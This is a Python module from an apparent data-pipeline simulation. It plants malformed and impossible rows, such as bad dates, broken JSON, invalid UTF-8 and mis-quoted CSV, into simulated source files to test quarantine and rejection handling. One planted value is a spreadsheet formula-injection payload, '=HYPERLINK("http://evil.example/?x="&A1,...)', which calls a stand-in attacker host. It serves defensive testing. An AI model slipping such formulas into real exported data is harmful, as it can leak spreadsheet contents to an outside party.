"""Lines that real sources send among the good ones: unreadable lines, and readable ones with impossible values."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

from simulation.dirt import Dirt
from simulation.files import LandingFile
from simulation.shapes import WEEK

SHARE_OF_ROWS = 0.0002
BAD_LINES_ON = (0, 1, 2)  # days, as numbers modulo seven, on which sources send bad lines

Row = dict[str, str]

# One good row of each table that gets bad lines; every bad line is that row with one thing wrong.
_GOOD_ROWS: dict[tuple[str, str], Row] = {
    ("crm", "leads"): {"email": "dirt@kestrel-dirt.example", "last_name": "Dirt", "company": "Dirt Ltd"},
    ("email", "events"): {"recipient": "dirt@kestrel-dirt.example", "event_type": "delivered"},
    ("web", "events"): {
        "anonymous_id": "vdirt",
        "event_type": "page_view",
        "url": "https://www.kestrelworks.example/blog",
    },
}
_KEY = {"crm": "lead_id", "email": "event_id", "web": "event_id"}
_TIME = {"crm": "created_at", "email": "occurred_at", "web": "occurred_at"}
_TEXT = {"crm": "company", "email": "url", "web": "url"}


def plant_bad_lines(content: bytes, file: LandingFile, day: date) -> tuple[bytes, list[Dirt]]:
    """Put bad lines evenly between the lines of a text file; the good lines stay as they are.

    Returns: the new content, and what was planted; on most days and for most tables nothing.
    """
    if (file.source, file.table) not in _GOOD_ROWS or day.toordinal() % WEEK not in BAD_LINES_ON:
        return content, []
    lines = content.splitlines(keepends=True)
    head = [] if file.file_format == "jsonl" else [lines.pop(0)]
    planted: list[bytes] = []
    books: list[Dirt] = []
    copies = 1 + int(len(lines) * SHARE_OF_ROWS)
    for kind, (outcome, changes) in _bad_values(file).items():
        keys = [f"dirt-{day:%Y%m%d}-{kind}-{number}" for number in range(copies)]
        planted += [_line(file, _good_row(file, day, key) | changes) for key in keys]
        books.append(Dirt(kind, file.source, file.table, file.relative, outcome, copies, " ".join(keys)))
    for kind, line in _unreadable(file, _good_row(file, day, f"dirt-{day:%Y%m%d}-unreadable")).items():
        planted += [line] * copies
        books.append(Dirt(kind, file.source, file.table, file.relative, "rejected", copies))
    return b"".join([*head, *_spread(planted, lines)]), books


def _good_row(file: LandingFile, day: date, key: str) -> Row:
    times = dict.fromkeys(("created_at", "updated_at", "occurred_at", "loaded_at"), f"{day} 00:30:00")
    row = _GOOD_ROWS[file.source, file.table] | times | {_KEY[file.source]: key}
    return {name: value for name, value in row.items() if name in file.columns}


def _bad_values(file: LandingFile) -> dict[str, tuple[str, Row]]:
    """Kind of dirt, what must become of the row, and what is wrong with it."""
    time, text = _TIME[file.source], _TEXT[file.source]
    kinds: dict[str, tuple[str, Row]] = {
        "future_date": ("quarantined", {time: "2099-12-31 00:00:00"}),
        "ancient_date": ("quarantined", {time: "1970-01-01 00:00:00"}),
        "older_than_computers": ("quarantined", {time: "1900-01-01 00:00:00"}),
        "impossible_date": ("quarantined", {time: "2026-02-30 10:00:00"}),
        "text_as_date": ("quarantined", {time: "yesterday"}),
        "empty_required_value": ("quarantined", {time: ""}),
        "formula_cell": ("staged", {text: '=HYPERLINK("http://evil.example/?x="&A1,"click")'}),
    }
    if file.table == "leads":
        kinds["text_in_number"] = ("value_dropped", {"annual_revenue": "about 5 million"})
        kinds["line_break_in_cell"] = ("staged", {text: "Dirt\nand Sons"})
    return kinds


def _unreadable(file: LandingFile, row: Row) -> dict[str, bytes]:
    """Lines that no reader can take apart."""
    line = _line(file, row)
    if file.file_format == "jsonl":
        return {
            "broken_json": line[: len(line) // 2] + b"\n",
            "no_json_object": b'["a list", "is", "no row"]\n',
            "no_json_at_all": b"Internal Server Error\n",
            "invalid_utf8": line.replace(b"kestrel", b"\xff\xfe\xc3("),
        }
    values = [row.get(name, "") for name in file.columns]
    return {
        "too_few_fields": _csv_line(values[: len(values) // 2]),
        "too_many_fields": _csv_line([*values, "one", "two", "too many"]),
        "bad_quotes": _csv_line([*values[:-1], "?"]).replace(b"?", b'"Dirt "Sons" & Co'),
        "invalid_utf8": line.replace(b"kestrel", b"\xff\xfe\xc3("),
    }


def _line(file: LandingFile, row: Row) -> bytes:
    if file.file_format == "jsonl":
        return json.dumps(row).encode() + b"\n"
    return _csv_line([row.get(name, "") for name in file.columns])


def _csv_line(values: list[str]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow(values)
    return buffer.getvalue().encode()


def _spread(planted: list[bytes], lines: list[bytes]) -> list[bytes]:
    mixed: list[bytes] = []
    step = len(lines) / (len(planted) + 1)
    done = 0
    for number, line in enumerate(planted, start=1):
        place = int(step * number)
        mixed.extend([*lines[done:place], line])
        done = place
    return mixed + lines[done:]
